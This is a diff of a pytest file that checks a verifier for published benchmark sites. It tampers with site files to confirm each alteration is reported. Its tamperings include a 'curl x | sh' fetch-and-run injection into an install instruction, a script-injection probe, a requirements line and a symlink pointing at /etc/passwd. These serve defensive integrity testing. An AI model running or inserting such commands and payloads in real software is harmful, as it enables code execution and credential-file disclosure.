@@ -1,17 +1,14 @@
-"""What is said of a published site that somebody submits: nothing of a good one, a line for every fault of another."""
+"""What is said of a published site that somebody submits: nothing of a good one, a line for every altered file."""
 
 from __future__ import annotations
 
 import importlib
-import json
+import re
 import shutil
-import sqlite3
-from collections.abc import Callable, Iterator
-from contextlib import closing
+from collections.abc import Iterator
 from pathlib import Path
 from types import ModuleType
 
-import pandas as pd
 import pytest
 
 from vibench.provenance import PROTOCOL
@@ -42,54 +39,79 @@ def copied(site: Path, tmp_path: Path) -> Path:
     return Path(shutil.copytree(site, tmp_path / "site"))
 
 
-def run_of(site: Path) -> Path:
-    (folder,) = (site / "runs").iterdir()
-    return folder
+@pytest.fixture(scope="module")
+def again(script: ModuleType, site: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return script.published_again(site, tmp_path_factory.mktemp("again"))
 
 
-def test_of_a_good_site_nothing_is_missing(script: ModuleType, site: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    assert list(script.faults(site)) == []
-    script.main(str(site))
-    assert capsys.readouterr().out == f"{site}: nothing is missing\n"
+def test_of_a_good_site_nothing_is_wrong(script: ModuleType, site: Path, again: Path) -> None:
+    assert list(script.differences(site, again)) == []
+    assert list(script.of_run(again / "runs" / "quick" / FILE)) == []
 
 
-def change_a_number(site: Path) -> None:
-    path = run_of(site) / "tables" / "cells.csv"
-    table = pd.read_csv(path)
-    table.loc[0, "error_u_mean"] *= 1.01
-    table.to_csv(path, index=False)
+OF_RUN = "runs/quick/"
+
+ALTERED = {
+    f"{OF_RUN}tables/thresholds.csv": lambda text: re.sub(r"\d\.\d", "0.1", text),
+    f"{OF_RUN}tables/cells.csv": lambda text: text.replace(",ok,", ",failed,"),
+    f"{OF_RUN}tables/disagreements.csv": lambda text: "".join(f"{line.partition(',')[2]}\n" for line in text.split()),
+    f"{OF_RUN}requirements.txt": lambda text: f"{text}-r /etc/passwd\n",
+    f"{OF_RUN}provenance.json": lambda text: re.sub(r'"machines": \[\n *".', '"machines": ["X', text),
+    f"{OF_RUN}index.html": lambda text: text.replace("pip install", "curl x | sh; pip install", 1),
+    f"{OF_RUN}report.html": lambda text: re.sub(r"0\.\d", "0.1", text, count=9),
+    f"{OF_RUN}{FILE}": lambda text: text.replace("decorrelated", "uncorrelated", 1),
+    "leaderboard.html": lambda text: re.sub(r"\d\.\d", "9.9", text, count=1),
+    "index.html": lambda text: text.replace("</body>", "<script>alert(1)</script></body>"),
+    "comparison.html": lambda text: f"{text} ",
+    "CITATION.cff": lambda text: text.replace("quick", "other", 1),
+    "citation.bib": lambda text: text.replace("quick", "other", 1),
+}  # fmt: skip
 
 
-def change_a_row(site: Path) -> None:
-    with closing(sqlite3.connect(run_of(site) / FILE)) as connection, connection:
-        connection.execute("UPDATE cells SET online_s = 0.5 * online_s")
+def test_every_alteration_of_a_file_is_named(script: ModuleType, copied: Path, again: Path) -> None:
+    for name, alter in ALTERED.items():
+        text = (copied / name).read_bytes().decode("latin-1")
+        assert alter(text) != text, name
+        (copied / name).write_bytes(alter(text).encode("latin-1"))
+        changed = f"{name} is not what the results files give"
+        assert list(script.differences(copied, again)) == [
+            changed,
+            "vibench-site.json has other digests than the files",
+        ]
+        (copied / name).write_bytes(text.encode("latin-1"))
+    (copied / "publication.json").unlink()
+    (copied / "extra.js").touch()
+    (copied / "index.html").unlink()
+    (copied / "index.html").symlink_to("/etc/passwd")
+    assert {line.partition(" ")[0] for line in script.differences(copied, again)} == {
+        "publication.json", "extra.js", "index.html", "vibench-site.json",
+    }  # fmt: skip
 
 
-def change_versions(site: Path) -> None:
-    path = run_of(site) / "provenance.json"
-    path.write_text(json.dumps(json.loads(path.read_text(encoding="utf-8")) | {"versions": {"numpy": "9"}}))
+def test_what_may_differ_is_not_named(script: ModuleType) -> None:
+    pages, files = (script.MAY_DIFFER[name] for name in ("report.html", FILE))
+    assert re.sub(pages, b"", b'<img src="data:image/webp;base64,aB+/=" width="9" height="8" a') == b'<img src="" a'
+    header = bytes(range(1, 120))
+    assert re.sub(files, b"", header) == header[:24] + header[28:40] + header[44:92] + header[100:]
 
 
 @pytest.mark.parametrize(
-    ("break_it", "said"),
+    ("name", "content", "said"),
     [
-        (lambda site: (site / "citation.bib").unlink(), "citation.bib is missing"),
-        (lambda site: shutil.rmtree(site / "runs"), "there are no runs in the folder runs"),
-        (lambda site: (run_of(site) / "requirements.txt").unlink(), "requirements.txt is missing"),
-        (change_a_number, "tables/cells.csv has other values of error_u_mean than the results file"),
-        (change_a_row, f"{FILE}: "),  # the digests say so
-        (change_versions, f"provenance.json has other versions than {FILE}"),
+        ("publication.json", "[]", "TypeError: list indices"), ("publication.json", "{", "JSONDecodeError"),
+        ("publication.json", '{"vibench": "9"}', "published by vibench 9, expected"),
+        (f"{OF_RUN}{FILE}", "nothing", "is not a results file of vibench"),
+        (f"{OF_RUN}{FILE}", None, "No such file"),
     ],
-)
-def test_what_is_wrong_is_named(
-    break_it: Callable[[Path], None], said: str, script: ModuleType, copied: Path, capsys: pytest.CaptureFixture[str]
+)  # fmt: skip
+def test_what_cannot_be_published_again_is_one_line(
+    name: str, content: str | None, said: str, script: ModuleType, copied: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    break_it(copied)
-    assert any(said in line for line in script.faults(copied))
+    (copied / name).unlink() if content is None else (copied / name).write_text(content)
     with pytest.raises(SystemExit) as ended:
         script.main(str(copied))
-    assert ended.value.code == 1
-    assert said in capsys.readouterr().out
+    (line,) = capsys.readouterr().out.splitlines()
+    assert (ended.value.code, said in line) == (1, True), line
 
 
 def test_another_protocol_and_residuals_above_the_accuracy_are_named(script: ModuleType, quick_run: Path) -> None:
